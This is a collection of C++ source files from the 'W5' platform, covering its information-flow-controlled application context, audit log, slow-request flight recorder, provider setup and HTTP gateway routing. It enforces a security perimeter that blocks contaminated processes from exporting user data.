util::Result<std::string> AppContext::fetch_external(const std::string& url) {
  // The app process holds no declassification authority, so any secrecy
  // contamination at all blocks the call (difc::check_export with an
  // empty authority set).
  const difc::Label secrecy = current_secrecy();
  if (auto allowed = difc::check_export(secrecy, difc::CapabilitySet{});
      !allowed.ok()) {
    provider_.audit().record(
        AuditKind::kExportBlocked, module_.id(), url,
        "fetch_external with secrecy " + secrecy.to_string());
    return allowed.error();
  }
  if (auto charged =
          charge(os::Resource::kNetwork, static_cast<std::int64_t>(url.size()));
      !charged.ok()) {
    return charged.error();
  }
  const auto& fetcher = provider_.external_fetcher();
  if (!fetcher)
    return util::make_error("net.unreachable", "no external network");
  return fetcher(url);
}

util::Result<net::HttpResponse> AppContext::call_module(
    const std::string& developer, const std::string& app,
    const std::string& rest, const std::string& query) {
  constexpr int kMaxCallDepth = 8;
  if (call_depth_ >= kMaxCallDepth) {
    return util::make_error("module.call_depth",
                            "module call chain exceeds depth limit");
  }
  const Module* callee = provider_.modules().resolve(developer, app);
  if (callee == nullptr) {
    return util::make_error("module.not_found",
                            developer + "/" + app + " is not registered");
  }
  if (auto charged = charge(os::Resource::kCpu, 1); !charged.ok())
    return charged.error();

  // Synthesize the callee's request; same viewer, same pid (and thus the
  // same floating label and the same resource container).
  std::string target = "/dev/" + developer + "/" + app;
  if (!rest.empty()) target += "/" + rest;
  if (!query.empty()) target += "?" + query;
  auto parsed = net::parse_request_target(target);
  if (!parsed) return util::make_error("module.call", "bad call target");
  net::HttpRequest synthetic;
  synthetic.method = net::Method::kGet;
  synthetic.target = target;
  synthetic.parsed = std::move(*parsed);
  synthetic.headers = request_.headers;

  net::RouteParams params;
  params["developer"] = developer;
  params["app"] = app;
  if (!rest.empty()) params["rest"] = rest;

  AppContext callee_context(provider_, pid_, *callee, viewer_, synthetic,
                            std::move(params));
  callee_context.call_depth_ = call_depth_ + 1;
  try {
    auto response = callee->handler(callee_context);
    provider_.search_service().record_use(callee->id());
    return response;
  } catch (const std::exception& e) {
    provider_.audit().record(AuditKind::kAppError, callee->id(),
                             "call_module", typeid(e).name());
    return util::make_error("module.call", "callee raised an exception");
  }
}

util::Status AppContext::charge(os::Resource resource, std::int64_t amount) {
  auto status = provider_.kernel().charge(pid_, resource, amount);
  if (!status.ok() && status.error().code == "quota.exceeded") {
    provider_.audit().record(AuditKind::kQuotaKill, module_.id(),
                             to_string(resource), status.error().detail);
  }
  return status;
}

}  // namespace w5::platform
