// Flight recorder: the slow-request ring (DESIGN.md §16).
//
// A fixed ring of the most recent traces whose end-to-end duration
// crossed the provider's slow_request threshold, captured with their
// full span dump at the moment they finished — so "why was that request
// slow at 3 AM" is answerable from /debug/slowlog after the fact, even
// though the TraceBuffer has long since recycled the slot. Entries are
// whole Trace values (ids, span names, timings); the DIFC telemetry
// invariant (§3.5) holds because spans never carry user data bytes in
// the first place.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/trace.h"
#include "util/json.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::platform {

class FlightRecorder {
 public:
  explicit FlightRecorder(std::size_t capacity = 64)
      : capacity_(capacity == 0 ? 1 : capacity) {}

  // Records a finished slow trace. Re-recording an id (late remote spans
  // arrived, the trace got slower) replaces the earlier entry in place.
  void record(Trace trace);

  // Newest-first JSON dump for /debug/slowlog:
  //   {"threshold_note": ..., "entries": [trace, ...]}
  util::Json to_json() const;

  std::uint64_t recorded() const;  // lifetime total (not ring occupancy)
  std::size_t size() const;

 private:
  const std::size_t capacity_;
  mutable util::Mutex mutex_{util::lockrank::kFlightRecorder,
                              "FlightRecorder::mutex_"};
  std::vector<Trace> ring_ W5_GUARDED_BY(mutex_);
  std::size_t next_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t recorded_total_ W5_GUARDED_BY(mutex_) = 0;
};

}  // namespace w5::platform
