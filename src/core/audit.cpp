#include "core/audit.h"

#include <algorithm>

#include "core/trace.h"

namespace w5::platform {

std::string to_string(AuditKind kind) {
  switch (kind) {
    case AuditKind::kExportAllowed:
      return "export.allowed";
    case AuditKind::kExportBlocked:
      return "export.blocked";
    case AuditKind::kDeclassifierDecision:
      return "declassifier.decision";
    case AuditKind::kFlowDenied:
      return "flow.denied";
    case AuditKind::kQuotaKill:
      return "quota.kill";
    case AuditKind::kAuthEvent:
      return "auth.event";
    case AuditKind::kAppError:
      return "app.error";
    case AuditKind::kAdmin:
      return "admin";
  }
  return "unknown";
}

void AuditLog::record(AuditKind kind, std::string actor, std::string subject,
                      std::string detail) {
  // Resolve the trace id before taking the lock: audit entries recorded
  // on a request worker cross-reference that request's trace.
  std::string trace = RequestContext::current_id();
  const util::MutexLock lock(mutex_);
  if (events_.size() >= max_events_) {
    const std::size_t drop = events_.size() / 2;
    events_.erase(events_.begin(),
                  events_.begin() + static_cast<std::ptrdiff_t>(drop));
    dropped_ += drop;
  }
  events_.push_back(AuditEvent{clock_.now(), kind, std::move(actor),
                               std::move(subject), std::move(detail),
                               std::move(trace)});
  ++counts_by_kind_[static_cast<std::size_t>(kind) % kKindCount];
}

std::vector<AuditEvent> AuditLog::events() const {
  const util::MutexLock lock(mutex_);
  return events_;
}

std::vector<AuditEvent> AuditLog::events(std::size_t limit,
                                         util::Micros since_micros) const {
  const util::MutexLock lock(mutex_);
  // events_ is append-ordered by timestamp, so the first event at or
  // after the cutoff is a binary search away.
  const auto first = std::lower_bound(
      events_.begin(), events_.end(), since_micros,
      [](const AuditEvent& event, util::Micros at) { return event.at < at; });
  const std::size_t available =
      static_cast<std::size_t>(events_.end() - first);
  const std::size_t n = std::min(limit, available);
  // Newest n of the window, returned oldest-first.
  return std::vector<AuditEvent>(events_.end() - static_cast<std::ptrdiff_t>(n),
                                 events_.end());
}

std::size_t AuditLog::size() const {
  const util::MutexLock lock(mutex_);
  return events_.size();
}

std::size_t AuditLog::count(AuditKind kind) const {
  const util::MutexLock lock(mutex_);
  return counts_by_kind_[static_cast<std::size_t>(kind) % kKindCount];
}

std::vector<AuditEvent> AuditLog::for_actor(const std::string& actor) const {
  const util::MutexLock lock(mutex_);
  std::vector<AuditEvent> out;
  for (const auto& event : events_)
    if (event.actor == actor) out.push_back(event);
  return out;
}

void AuditLog::clear() {
  const util::MutexLock lock(mutex_);
  events_.clear();
  for (auto& n : counts_by_kind_) n = 0;
}

std::size_t AuditLog::dropped() const {
  const util::MutexLock lock(mutex_);
  return dropped_;
}

}  // namespace w5::platform
