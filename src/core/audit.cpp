#include "core/audit.h"

namespace w5::platform {

std::string to_string(AuditKind kind) {
  switch (kind) {
    case AuditKind::kExportAllowed:
      return "export.allowed";
    case AuditKind::kExportBlocked:
      return "export.blocked";
    case AuditKind::kDeclassifierDecision:
      return "declassifier.decision";
    case AuditKind::kFlowDenied:
      return "flow.denied";
    case AuditKind::kQuotaKill:
      return "quota.kill";
    case AuditKind::kAuthEvent:
      return "auth.event";
    case AuditKind::kAppError:
      return "app.error";
    case AuditKind::kAdmin:
      return "admin";
  }
  return "unknown";
}

void AuditLog::record(AuditKind kind, std::string actor, std::string subject,
                      std::string detail) {
  if (events_.size() >= max_events_) {
    const std::size_t drop = events_.size() / 2;
    events_.erase(events_.begin(),
                  events_.begin() + static_cast<std::ptrdiff_t>(drop));
    dropped_ += drop;
  }
  events_.push_back(AuditEvent{clock_.now(), kind, std::move(actor),
                               std::move(subject), std::move(detail)});
}

std::size_t AuditLog::count(AuditKind kind) const {
  std::size_t n = 0;
  for (const auto& event : events_)
    if (event.kind == kind) ++n;
  return n;
}

std::vector<AuditEvent> AuditLog::for_actor(const std::string& actor) const {
  std::vector<AuditEvent> out;
  for (const auto& event : events_)
    if (event.actor == actor) out.push_back(event);
  return out;
}

}  // namespace w5::platform
