// Client-side defense (paper §3.5): "W5 could disable JavaScript entirely
// by filtering it out at the security perimeter."
//
// The gateway runs every outbound HTML body through this filter when the
// provider enables strip_javascript: <script> blocks, javascript: URLs,
// and inline on*= event handlers are removed. (The paper's richer
// alternative — MashupOS-style client policies — is future work there and
// here.)
#pragma once

#include <string>
#include <string_view>

namespace w5::platform {

// Returns the sanitized copy; `modified` (optional) reports whether
// anything was stripped.
std::string strip_javascript(std::string_view html, bool* modified = nullptr);

}  // namespace w5::platform
