// AppContext: the complete system-call surface of a W5 application.
//
// Developer code is untrusted (paper §3.1: "Bad developers might upload
// applications designed to steal data..."). A module receives exactly one
// handle — this context — and every method routes through the kernel's
// label checks under the request's Pid. There is no other way for app
// code to touch the store, the filesystem, or the outside world, which is
// what makes the perimeter a perimeter.
#pragma once

#include <functional>
#include <string>

#include "core/provider.h"
#include "net/http.h"
#include "net/router.h"
#include "os/filesystem.h"
#include "os/kernel.h"
#include "store/labeled_store.h"
#include "store/query.h"
#include "util/result.h"

namespace w5::platform {

struct Module;

// Simulated external internet (Google Maps API, a developer's own
// server, ...). The gateway wires in a fake; the security property under
// test is that *contaminated* processes cannot reach it at all.
using ExternalFetcher =
    std::function<util::Result<std::string>(const std::string& url)>;

class AppContext {
 public:
  AppContext(Provider& provider, os::Pid pid, const Module& module,
             std::string viewer, const net::HttpRequest& request,
             net::RouteParams params);

  // ---- Request surface ------------------------------------------------------
  const net::HttpRequest& request() const noexcept { return request_; }
  const net::RouteParams& params() const noexcept { return params_; }
  // The authenticated requesting user ("" when anonymous). Public
  // information: identity, not data.
  const std::string& viewer() const noexcept { return viewer_; }
  const Module& module() const noexcept { return module_; }
  os::Pid pid() const noexcept { return pid_; }

  std::string param(const std::string& name,
                    const std::string& fallback = {}) const;
  std::string query_param(const std::string& name,
                          const std::string& fallback = {}) const;

  // ---- Structured data (labeled store) --------------------------------------
  util::Result<store::Record> get_record(const std::string& collection,
                                         const std::string& id);
  // Scans stamp options.principal with the module id before they reach
  // the store, so the §3.5 per-principal query budget meters the *app*,
  // not whatever identity the app claims.
  util::Result<std::vector<store::Record>> query(
      const std::string& collection, const store::QueryOptions& options = {});
  // Cursor pagination: feed page.next_cursor back via options.cursor to
  // resume without offset re-scans (see store::QueryPage).
  util::Result<store::QueryPage> query_page(
      const std::string& collection, const store::QueryOptions& options = {});
  util::Result<std::size_t> count(const std::string& collection,
                                  const store::QueryOptions& options = {});
  util::Status put_record(store::Record record);
  util::Status remove_record(const std::string& collection,
                             const std::string& id);

  // Builds a record carrying `owner`'s standard labels: S = {sec(owner)}
  // (+rp(owner) for the owner's private collections), I = {wp(owner)}.
  util::Result<store::Record> make_user_record(const std::string& owner,
                                               const std::string& collection,
                                               const std::string& id,
                                               util::Json data) const;

  // ---- Files (labeled filesystem) --------------------------------------------
  util::Result<std::string> read_file(const std::string& path);
  util::Status write_file(const std::string& path, std::string content);
  util::Status create_file(const std::string& path,
                           const difc::ObjectLabels& labels,
                           std::string content);

  // ---- Label introspection ---------------------------------------------------
  // Labels are not secret; apps may inspect their own contamination.
  difc::Label current_secrecy() const;

  // ---- Federated metasearch (DESIGN.md §18) ----------------------------------
  // One scatter/gather query across every provider the viewer consented
  // to mirror with, via the FederatedSearchFn seam (apps never touch
  // fed/ directly — the layering DAG has no apps→fed edge). The local
  // store leg runs under THIS pid, so the usual read rule contaminates
  // the app with what it saw; remote legs are gated by each peer's
  // mirror declassifier. The query principal is stamped with the module
  // id so the §3.5 budget meters the app. Fails with fed.not_configured
  // when the provider does not federate.
  util::Result<FederatedPage> federated_search(FederatedQuery query);

  // ---- The outside world -----------------------------------------------------
  // Outbound call past the perimeter. Checked: a process whose secrecy
  // label is non-empty holds no export privilege, so the call is denied —
  // the paper's mashup argument (§4): the address book page can never be
  // transmitted back to the map developer's servers.
  util::Result<std::string> fetch_external(const std::string& url);

  // ---- Module composition ----------------------------------------------------
  // Invokes another module in-process (paper §2: the platform API covers
  // "communication with other modules"; §1: compose "developer A's photo
  // cropping module and developer B's labeling module"). The callee runs
  // under the SAME pid — contamination it picks up sticks to this
  // request, so composition cannot launder labels. `rest` becomes the
  // callee's sub-route; `query` its query string. Depth-limited.
  util::Result<net::HttpResponse> call_module(const std::string& developer,
                                              const std::string& app,
                                              const std::string& rest = {},
                                              const std::string& query = {});

  // ---- Resources ---------------------------------------------------------------
  util::Status charge(os::Resource resource, std::int64_t amount);

 private:
  Provider& provider_;
  os::Pid pid_;
  const Module& module_;
  std::string viewer_;
  const net::HttpRequest& request_;
  net::RouteParams params_;
  int call_depth_ = 0;
};

}  // namespace w5::platform
