#include "core/provider.h"

#include "core/gateway.h"
#include "core/statusz.h"
#include "difc/codec.h"
#include "net/cookies.h"
#include "net/http_server.h"
#include "net/tracing.h"
#include "util/log.h"

#include <fstream>
#include <sstream>

namespace w5::platform {

Provider::Provider(ProviderConfig config, const util::Clock& clock)
    : config_(std::move(config)),
      clock_(clock),
      fs_(kernel_),
      store_(kernel_, clock),
      users_(kernel_),
      sessions_(clock, config_.session_ttl_micros),
      audit_(clock),
      loop_stats_(config_.io_threads == 0 ? 1 : config_.io_threads) {
  // Outbound hops (HttpClient, federation pulls) stamp the active
  // request's trace headers; the hook is process-global and reads the
  // thread-local context, so re-installation by later providers is
  // idempotent in effect.
  net::set_outbound_trace_provider([](net::TraceHeaders* out) {
    RequestContext* context = RequestContext::current();
    if (context == nullptr || context->id().empty()) return false;
    out->trace_id = context->id();
    out->parent_span = context->current_parent() != 0
                           ? std::to_string(context->current_parent())
                           : std::string();
    out->sampled = context->spans_enabled();
    return true;
  });
  // The standard declassifier library every provider ships (§3.1: "casual
  // W5 users will authorize only a small handful of reputable
  // declassifiers").
  declassifiers_.add("std/owner-only", make_owner_only());
  declassifiers_.add("std/public", make_public());
  declassifiers_.add(
      "std/friends",
      make_friend_list([this](const std::string& owner,
                              const std::string& viewer) {
        // Friend lists are themselves user data in the store; the
        // declassifier reads with provider authority — it is inside the
        // TCB and holds the owner's privilege by construction.
        auto record =
            store_.get(os::kKernelPid, "friends", owner, store::Raise::kNo);
        if (!record.ok()) return false;
        const util::Json& friends = record.value().data.at("friends");
        for (const auto& entry : friends.as_array())
          if (entry.is_string() && entry.as_string() == viewer) return true;
        return false;
      }));
  declassifiers_.add("std/k-aggregate-3", make_k_aggregate(3));
  declassifiers_.add(
      "std/friends-rate-limited",
      make_rate_limited(
          make_friend_list([this](const std::string& owner,
                                  const std::string& viewer) {
            auto record = store_.get(os::kKernelPid, "friends", owner,
                                     store::Raise::kNo);
            if (!record.ok()) return false;
            const util::Json& friends = record.value().data.at("friends");
            for (const auto& entry : friends.as_array())
              if (entry.is_string() && entry.as_string() == viewer)
                return true;
            return false;
          }),
          clock_, /*max_exports=*/100,
          /*window_micros=*/60ll * 1000 * 1000));

  // Default simulated internet: echoes a canned payload. Examples and
  // tests replace this to observe traffic.
  external_fetcher_ = [](const std::string& url) -> util::Result<std::string> {
    return std::string("external-response:") + url;
  };

  // Store query plane (DESIGN.md §17): indexes first (so durability
  // recovery below replays into indexed shards), then the §3.5 knobs.
  for (const auto& spec : config_.store_indexes)
    (void)store_.create_index(spec.collection, spec.field);
  store_.set_governor_config(config_.query_governor);

  gateway_ = std::make_unique<Gateway>(*this);

  // Filesystem skeleton — code-created bootstrap state, recreated on
  // every boot *before* durability attaches, so it is never WAL-logged.
  (void)fs_.mkdir(os::kKernelPid, "/users", {});
  (void)fs_.mkdir(os::kKernelPid, "/apps", {});

  if (config_.durability.enabled) init_durability();
}

Provider::~Provider() {
  // Workers may hold references into members destroyed below; stop them
  // first.
  if (pool_ != nullptr) pool_->shutdown();
  // Then the durability plane: the last worker mutations are enqueued by
  // now, and close() drains them to disk before the components that
  // published them are torn down.
  if (durable_ != nullptr) durable_->close();
}

void Provider::init_durability() {
  durable_ =
      std::make_unique<store::DurableStore>(config_.durability, &metrics_);
  auto recovered = durable_->recover(
      [this](const std::string& payload) -> util::Status {
        auto parsed = util::Json::parse(payload);
        if (!parsed.ok()) return parsed.error();
        return restore(parsed.value());
      },
      [this](const util::Json& op) { return apply_wal_op(op); });
  if (!recovered.ok()) {
    durability_status_ = recovered.error();
    durable_.reset();
    util::log_error("provider: durability disabled: ",
                    durability_status_.error().detail);
    return;
  }
  recovery_stats_ = recovered.value();
  // Attach the log only *after* recovery: replayed mutations must not be
  // re-logged — and the trusted apply paths skip kernel charges, audit
  // events, and telemetry, so recovery charges each op exactly once (at
  // original execution time, never again).
  kernel_.tags().set_mutation_log(durable_.get());
  users_.set_mutation_log(durable_.get());
  policies_.set_mutation_log(durable_.get());
  fs_.set_mutation_log(durable_.get());
  store_.set_mutation_log(durable_.get());
  durable_->set_checkpoint_source([this] { return snapshot().dump(); });
}

util::Status Provider::apply_wal_op(const util::Json& op) {
  const std::string& kind = op.at("op").as_string();
  if (kind.starts_with("store.")) return store_.apply_wal(op);
  if (kind.starts_with("fs.")) return fs_.apply_wal(op);
  if (kind.starts_with("tag.")) return kernel_.tags().apply_wal(op);
  if (kind.starts_with("policy.")) return policies_.apply_wal(op);
  if (kind.starts_with("user.")) return users_.apply_wal(op);
  return util::make_error("wal.replay", "unknown op '" + kind + "'");
}

util::Status Provider::checkpoint() {
  if (durable_ == nullptr)
    return util::make_error("wal.checkpoint", "durability disabled");
  return durable_->checkpoint();
}

os::ThreadPool& Provider::worker_pool() {
  std::call_once(pool_once_, [this] {
    pool_ = std::make_unique<os::ThreadPool>(config_.worker_threads,
                                             config_.max_queued_connections);
    pool_ptr_.store(pool_.get(), std::memory_order_release);
  });
  return *pool_;
}

std::size_t Provider::serve(net::TcpListener& listener) {
  os::ThreadPool& pool = worker_pool();
  // Admission control (DESIGN.md §12): try_submit sheds when the queue is
  // at max_queued_connections and the server answers 503 + Retry-After
  // instead of queueing without bound (at accept for the pooled server,
  // at dispatch for the reactor — same observable behavior).
  auto handler = [this](const net::HttpRequest& request) {
    return handle(request);
  };
  auto submit = [&pool](std::function<void()> job) {
    return pool.try_submit(std::move(job));
  };
  if (config_.serve_mode == ServeMode::kPooled) {
    net::PooledHttpServer server(handler, submit, config_.http_limits,
                                 config_.http_robustness, &server_stats_,
                                 &conn_stats_);
    const std::size_t dispatched = server.serve(listener);
    pool.drain();  // finish in-flight connections before `server` dies
    return dispatched;
  }
  net::EventLoopOptions loop_options;
  loop_options.io_threads = config_.io_threads;
  // ---- Reactor telemetry (DESIGN.md §16) ---------------------------------
  // Histogram pointers resolve once here; loop threads update them
  // lock-free. The on_stage callback runs on the owning loop thread after
  // the response's last byte — off the request's latency path.
  loop_options.telemetry.loop_lag_micros = &metrics_.histogram(
      "w5_reactor_loop_lag_micros",
      {50, 100, 250, 500, 1'000, 2'500, 5'000, 10'000, 50'000});
  loop_options.telemetry.epoll_batch =
      &metrics_.histogram("w5_reactor_epoll_batch", {1, 2, 4, 8, 16, 32, 64});
  loop_options.telemetry.timer_drift_micros = &metrics_.histogram(
      "w5_reactor_timer_drift_micros",
      {100, 500, 1'000, 5'000, 10'000, 20'000, 50'000, 100'000});
  loop_options.telemetry.loop_stats = &loop_stats_;
  struct StageHistograms {
    util::Histogram* parse;
    util::Histogram* dispatch;
    util::Histogram* handler;
    util::Histogram* write;
    util::Histogram* total;
  };
  const std::vector<std::int64_t> stage_bounds{
      10, 50, 100, 500, 1'000, 5'000, 10'000, 50'000, 100'000, 500'000};
  const StageHistograms stage_histograms{
      &metrics_.histogram("w5_reactor_stage_micros{stage=\"parse\"}",
                          stage_bounds),
      &metrics_.histogram("w5_reactor_stage_micros{stage=\"dispatch\"}",
                          stage_bounds),
      &metrics_.histogram("w5_reactor_stage_micros{stage=\"handler\"}",
                          stage_bounds),
      &metrics_.histogram("w5_reactor_stage_micros{stage=\"write\"}",
                          stage_bounds),
      &metrics_.histogram("w5_reactor_request_micros", stage_bounds),
  };
  loop_options.telemetry.on_stage = [this, stage_histograms](
                                        const net::StageSample& sample) {
    const auto clamped = [](util::Micros later, util::Micros earlier) {
      return later > earlier ? later - earlier : 0;
    };
    const util::Micros parse = clamped(sample.parse_done, sample.request_start);
    const util::Micros dispatch =
        clamped(sample.handler_start, sample.parse_done);
    const util::Micros handler =
        clamped(sample.handler_done, sample.handler_start);
    const util::Micros write = clamped(sample.write_done, sample.handler_done);
    const util::Micros total = clamped(sample.write_done, sample.request_start);
    stage_histograms.parse->observe(parse);
    stage_histograms.dispatch->observe(dispatch);
    stage_histograms.handler->observe(handler);
    stage_histograms.write->observe(write);
    // The exemplar ties the p99 bucket to a findable trace: "what was a
    // recent slow request" is one /trace/:id away from the histogram.
    stage_histograms.total->observe_with_exemplar(total, sample.trace_id);
    if (sample.trace_id.empty()) return;
    // Stage spans attach to the already-recorded trace (the gateway
    // records before the response bytes leave); append_spans drops them
    // when the trace was unsampled or already evicted.
    std::vector<TraceSpan> spans;
    spans.reserve(4);
    const auto stage_span = [&](const char* name, util::Micros start,
                                util::Micros duration) {
      TraceSpan span;
      span.name = name;
      span.start = start;
      span.duration = duration;
      spans.push_back(std::move(span));
    };
    stage_span("stage.parse", sample.request_start, parse);
    stage_span("stage.dispatch", sample.parse_done, dispatch);
    stage_span("stage.handler", sample.handler_start, handler);
    stage_span("stage.write", sample.handler_done, write);
    (void)traces_.append_spans(sample.trace_id, std::move(spans));
    // Slow-request capture happens at the gateway (it has the finished
    // trace in hand); the reactor path re-records here so the flight
    // recorder entry includes the stage spans just attached.
    if (config_.slow_request_micros > 0 &&
        total >= config_.slow_request_micros) {
      Trace slow;
      if (traces_.lookup(sample.trace_id, &slow) ==
          TraceBuffer::Lookup::kFound)
        flight_recorder_.record(std::move(slow));
    }
  };
  // Inline dispatch runs handlers on the owning loop (no handoff, no
  // 503 shed — overload becomes TCP backpressure); pooled dispatch keeps
  // blocking handlers off the loops and sheds via try_submit above.
  net::BoundedExecutor dispatch = submit;
  if (config_.app_dispatch == AppDispatch::kInline)
    dispatch = [](std::function<void()> job) {
      job();
      return true;
    };
  net::EventLoopHttpServer server(handler, std::move(dispatch),
                                  config_.http_limits,
                                  config_.http_robustness, loop_options,
                                  &server_stats_, &conn_stats_);
  const std::size_t accepted = server.serve(listener);
  pool.drain();  // in-flight handlers post into the server's mailboxes
  return accepted;
}

void Provider::set_external_fetcher(ExternalFetcher fetcher) {
  external_fetcher_ = std::move(fetcher);
}

util::Status Provider::signup(const std::string& user,
                              const std::string& password,
                              const std::string& display_name) {
  auto created = users_.create(user, display_name, password);
  if (!created.ok()) return created.error();
  // Per-user home directory, write-protected for the user.
  const UserAccount* account = created.value();
  (void)fs_.mkdir(os::kKernelPid, "/users/" + user,
                  difc::ObjectLabels{{}, difc::Label{account->write_tag}});
  return util::ok_status();
}

util::Result<std::string> Provider::login(const std::string& user,
                                          const std::string& password) {
  if (!users_.verify_password(user, password))
    return util::make_error("auth.bad_credentials", "wrong user or password");
  return sessions_.create(user);
}

util::Json Provider::snapshot() const {
  util::Json out;
  out["format"] = 1;
  out["tags"] = kernel_.tags().to_json();
  out["global_caps"] = difc::capability_set_to_json(kernel_.global_caps());
  out["users"] = users_.to_json();
  out["policies"] = policies_.to_json();
  out["fs"] = fs_.to_json();
  out["store"] = store_.to_json();
  return out;
}

util::Status Provider::restore(const util::Json& snapshot) {
  if (snapshot.at("format").as_int() != 1)
    return util::make_error("provider.parse", "unknown snapshot format");
  auto tags = difc::TagRegistry::from_json(snapshot.at("tags"));
  if (!tags.ok()) return tags.error();
  auto caps = difc::capability_set_from_json(snapshot.at("global_caps"));
  if (!caps.ok()) return caps.error();
  // Validate everything into temporaries before mutating live state.
  kernel_.tags() = std::move(tags).value();
  // Drop pre-restore global capabilities before republishing: tag ids are
  // reused across restores, so a stale entry could grant t+ for a
  // different tag now wearing the same id.
  kernel_.clear_global_capabilities();
  for (const auto& cap : caps.value().capabilities())
    kernel_.add_global_capability(cap);
  if (auto status = users_.load_json(snapshot.at("users")); !status.ok())
    return status;
  if (auto status = policies_.load_json(snapshot.at("policies")); !status.ok())
    return status;
  if (auto status = fs_.load_json(snapshot.at("fs")); !status.ok())
    return status;
  if (auto status = store_.load_json(snapshot.at("store")); !status.ok())
    return status;
  sessions_.revoke_all_everything();
  return util::ok_status();
}

util::Status Provider::save_to_file(const std::string& path) const {
  std::ofstream out(path, std::ios::trunc);
  if (!out) return util::make_error("io.open", "cannot write '" + path + "'");
  out << snapshot().dump();
  out.flush();
  if (!out) return util::make_error("io.write", "short write to '" + path + "'");
  return util::ok_status();
}

util::Status Provider::load_from_file(const std::string& path) {
  std::ifstream in(path);
  if (!in) return util::make_error("io.open", "cannot read '" + path + "'");
  std::ostringstream buffer;
  buffer << in.rdbuf();
  auto parsed = util::Json::parse(buffer.str());
  if (!parsed.ok()) return parsed.error();
  return restore(parsed.value());
}

void Provider::add_group_declassifier(const std::string& group) {
  declassifiers_.add(
      "std/group/" + group,
      make_group(group, [this](const std::string& group_name,
                               const std::string& viewer) {
        auto record = store_.get(os::kKernelPid, "groups", group_name,
                                 store::Raise::kNo);
        if (!record.ok()) return false;
        for (const auto& entry : record.value().data.at("members").as_array())
          if (entry.is_string() && entry.as_string() == viewer) return true;
        return false;
      }));
}

net::HttpResponse Provider::handle(const net::HttpRequest& request) {
  return gateway_->handle(request);
}

net::HttpResponse Provider::http(net::Method method, const std::string& target,
                                 const std::string& body,
                                 const std::string& session) {
  net::HttpRequest request;
  request.method = method;
  request.target = target;
  auto parsed = net::parse_request_target(target);
  if (!parsed) {
    return net::HttpResponse::text(400, "bad target");
  }
  request.parsed = std::move(*parsed);
  request.body = body;
  if (!session.empty()) {
    request.headers.set("Cookie",
                        std::string(kSessionCookie) + "=" + session);
  }
  return handle(request);
}

}  // namespace w5::platform
