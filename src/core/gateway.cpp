#include "core/gateway.h"

#include <algorithm>
#include <exception>
#include <set>

#include "core/sanitizer.h"
#include "core/statusz.h"
#include "core/trace.h"
#include "difc/label_table.h"
#include "util/strings.h"
#include "net/cookies.h"

namespace w5::platform {

namespace {

net::HttpResponse json_error(int status, const std::string& code) {
  util::Json body;
  body["error"] = code;
  return net::HttpResponse::json(status, body.dump());
}

// Generic denial: deliberately free of application-controlled bytes so a
// blocked response cannot itself smuggle data.
net::HttpResponse perimeter_denial() {
  return json_error(403, "export blocked by security perimeter");
}

}  // namespace

Gateway::Gateway(Provider& provider) : provider_(provider) {
  using net::Method;
  const auto bind0 = [this](net::HttpResponse (Gateway::*fn)(
                                const net::HttpRequest&)) {
    return [this, fn](const net::HttpRequest& request,
                      const net::RouteParams&) { return (this->*fn)(request); };
  };
  const auto bind1 = [this](net::HttpResponse (Gateway::*fn)(
                                const net::HttpRequest&,
                                const net::RouteParams&)) {
    return [this, fn](const net::HttpRequest& request,
                      const net::RouteParams& params) {
      return (this->*fn)(request, params);
    };
  };
  // Registers the route and its hit counter in one step. The counter name
  // embeds the route *pattern* — telemetry never sees captured values.
  // route_hits_ parallels the router's registration order, so the route
  // index dispatch reports maps straight to the counter.
  const auto add = [this](Method method, const std::string& pattern,
                          net::RouteHandler handler) {
    router_.add(method, pattern, std::move(handler));
    const std::string method_name{net::to_string(method)};
    route_hits_.push_back(
        &provider_.metrics().counter("w5_route_requests_total{method=\"" +
                                     method_name + "\",route=\"" + pattern +
                                     "\"}"));
  };

  add(Method::kPost, "/signup", bind0(&Gateway::route_signup));
  add(Method::kPost, "/login", bind0(&Gateway::route_login));
  add(Method::kPost, "/logout", bind0(&Gateway::route_logout));
  add(Method::kGet, "/whoami", bind0(&Gateway::route_whoami));
  add(Method::kGet, "/policy", bind0(&Gateway::route_get_policy));
  add(Method::kPost, "/policy", bind0(&Gateway::route_set_policy));
  add(Method::kGet, "/apps", bind0(&Gateway::route_list_apps));
  add(Method::kGet, "/stats", bind0(&Gateway::route_stats));
  add(Method::kGet, "/metrics", bind0(&Gateway::route_metrics));
  add(Method::kGet, "/trace/:id", bind1(&Gateway::route_trace));
  add(Method::kGet, "/debug/statusz", bind0(&Gateway::route_statusz));
  add(Method::kGet, "/debug/slowlog", bind0(&Gateway::route_slowlog));
  add(Method::kGet, "/search", bind0(&Gateway::route_search));
  add(Method::kGet, "/fed/search", bind0(&Gateway::route_fed_search));
  add(Method::kGet, "/developers", bind0(&Gateway::route_developers));
  add(Method::kGet, "/dev-stats", bind0(&Gateway::route_dev_stats));
  add(Method::kGet, "/audit", bind0(&Gateway::route_audit));
  add(Method::kPost, "/invite", bind0(&Gateway::route_invite));
  add(Method::kGet, "/invitations", bind0(&Gateway::route_invitations));
  add(Method::kPost, "/accept", bind0(&Gateway::route_accept));
  add(Method::kPost, "/endorse", bind0(&Gateway::route_endorse));
  add(Method::kGet, "/export", bind0(&Gateway::route_export));
  add(Method::kDelete, "/account", bind0(&Gateway::route_delete_account));
  add(Method::kPost, "/data/:collection/:id",
      bind1(&Gateway::route_put_data));
  add(Method::kGet, "/data/:collection/:id",
      bind1(&Gateway::route_get_data));
  add(Method::kGet, "/data/:collection", bind1(&Gateway::route_list_data));
  add(Method::kDelete, "/data/:collection/:id",
      bind1(&Gateway::route_delete_data));
  for (const auto method : {Method::kGet, Method::kPost, Method::kPut,
                            Method::kDelete}) {
    add(method, "/dev/:developer/:app", bind1(&Gateway::route_app));
    add(method, "/dev/:developer/:app/*rest", bind1(&Gateway::route_app));
  }

  util::MetricsRegistry& metrics = provider_.metrics();
  requests_total_ = &metrics.counter("w5_requests_total");
  responses_2xx_ = &metrics.counter("w5_responses_total{class=\"2xx\"}");
  responses_3xx_ = &metrics.counter("w5_responses_total{class=\"3xx\"}");
  responses_4xx_ = &metrics.counter("w5_responses_total{class=\"4xx\"}");
  responses_5xx_ = &metrics.counter("w5_responses_total{class=\"5xx\"}");
  declassify_allow_ =
      &metrics.counter("w5_declassifier_decisions_total{verdict=\"allow\"}");
  declassify_deny_ =
      &metrics.counter("w5_declassifier_decisions_total{verdict=\"deny\"}");
  exports_allowed_ = &metrics.counter("w5_exports_total{verdict=\"allow\"}");
